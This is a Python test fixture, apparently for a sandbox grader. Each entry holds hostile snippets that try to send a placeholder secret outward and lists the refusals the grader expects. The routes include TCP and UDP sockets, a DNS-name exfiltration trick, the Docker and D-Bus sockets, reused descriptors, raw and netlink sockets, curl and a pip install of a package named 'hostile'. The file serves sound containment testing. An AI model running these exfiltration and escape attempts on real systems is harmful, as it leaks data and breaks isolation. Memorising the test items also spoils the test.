"""Attacks over the network: telling somebody outside, by any road."""

from tests.grading.hostile.attack import Attack

ATTACKS = (
    Attack(
        "calls-over-tcp",
        "connects to a server on the same machine and to one outside",
        first="""
for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1", "198.51.100.7"):
    attempt("call " + host, lambda: socket.create_connection((host, PORT), timeout=1).send(b"secret"))
def by_hand():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
        one.connect(("127.0.0.1", PORT))
attempt("call by hand", by_hand)
attempt("call over version 6", lambda: socket.socket(socket.AF_INET6).connect(("::1", PORT)))
""",
        printed=("refused: call 127.0.0.1", "refused: call localhost", "refused: call by hand"),
    ),
    Attack(
        "calls-over-udp-and-asks-for-names",
        "sends datagrams and puts the secret into the name it asks a name server for",
        first="""
attempt("send a datagram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1",
    PORT)))
attempt("ask for a name", lambda: socket.getaddrinfo("secret.example.com", 80))
attempt("ask for a name again", lambda: socket.gethostbyname("secret.example.com"))
""",
        printed=("refused: send a datagram", "refused: ask for a name"),
    ),
    Attack(
        "calls-unix-sockets",
        "connects to sockets of the machine, by path and by abstract name, with every kind of socket",
        first=r"""
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    for name in (PLACES["socket"], "\0" + ABSTRACT, "\0" + ABSTRACT + "-datagrams", "/run/docker.sock",
        "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/dev/log"):
        def call():
            with socket.socket(socket.AF_UNIX, kind) as one:
                one.connect(name)
                one.send(b"secret")
        attempt("call %r as %d" % (name[-20:], kind), call)
def datagram():
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return ours.sendto(b"secret", "\0" + ABSTRACT + "-datagrams")
attempt("send a datagram beside a pair", datagram)
def raw_pair(kind):
    pair = ctypes.create_string_buffer(8)
    syscall(53, socket.AF_UNIX, kind, 0, pair)
    one = socket.socket(fileno=struct.unpack("=ii", pair.raw)[0])
    return one.sendto(b"secret", "\0" + ABSTRACT + "-datagrams")
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_DGRAM | 1 << 32):
    attempt("send beside a raw pair of kind %d" % kind, lambda: raw_pair(kind))
""",
        printed=("refused: call", "refused: send a datagram beside a pair"),
    ),
    Attack(
        "turns-our-own-sockets-round",
        "takes the sockets it was given and connects them to somebody else",
        first=r"""
names = []
for number in range(256):
    one = silently(lambda: socket.socket(fileno=os.dup(number)))
    if one is None:
        continue
    names.append(one.type)
    for address in (PLACES["socket"], "\0" + ABSTRACT, "\0" + ABSTRACT + "-datagrams"):
        silently(lambda: syscall(42, one.fileno(), struct.pack("=H", 0) + bytes(14), 16))
        attempt("reconnect descriptor %d" % number, lambda: one.connect(address))
        attempt("send from descriptor %d" % number, lambda: one.sendto(b"", address))
print("sockets at hand:", len(names))
""",
        printed=("refused: reconnect descriptor",),
    ),
    Attack(
        "uses-rare-kinds-of-sockets",
        "opens raw, packet, netlink, vsock, bluetooth, kernel-crypto and XDP sockets",
        first="""
for name, family in (("packet", 17), ("netlink", 16), ("vsock", 40), ("bluetooth", 31), ("crypto", 38), ("xdp", 44),
    ("can", 29), ("qipcrtr", 42), ("key", 15)):
    for kind in (1, 2, 3, 5):
        attempt("open " + name, lambda: socket.socket(family, kind))
attempt("open raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("call through io_uring", lambda: syscall(425, 8, ctypes.create_string_buffer(120)))
""",
        printed=(
            "refused: open packet",
            "refused: open netlink",
            "refused: open crypto",
            "refused: call through io_uring",
        ),
    ),
    Attack(
        "uses-libraries-for-the-web",
        "fetches pages, mails, and installs a package",
        first="""
import http.client, urllib.request
attempt("fetch a page", lambda: urllib.request.urlopen("http://127.0.0.1:%d/secret" % PORT, timeout=1).read())
attempt("post a page", lambda: http.client.HTTPConnection("127.0.0.1", PORT, timeout=1).request("POST", "/", "secret"))
get_ipython().run_cell("!curl http://127.0.0.1:%d/secret" % PORT)
get_ipython().run_cell("%pip install hostile")
import asyncio
async def talk():
    await asyncio.open_connection("127.0.0.1", PORT)
def run():
    asyncio.run(talk())
attempt("talk in the background", run)
""",
        printed=("refused: fetch a page", "refused: post a page"),
    ),
    Attack(
        "waits-to-be-called",
        "listens on a port and on a socket file for somebody to come and fetch the secret",
        first=r"""
attempt("listen", lambda: socket.create_server(("127.0.0.1", 0)))
attempt("listen to all", lambda: socket.create_server(("", 0), family=socket.AF_INET6))
def listening():
    one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    one.bind("\0hostile-listener")
    one.listen()
silently(listening)
silently(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).bind("listener"))
print("waits")
""",
        then=r"""
import socket
for name in ("\0hostile-listener", "listener"):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
            one.connect(name)
        print("GAINED: a connection to", repr(name))
    except OSError as error:
        print("nobody there:", type(error).__name__)
""",
        printed=("refused: listen", "waits"),
    ),
)
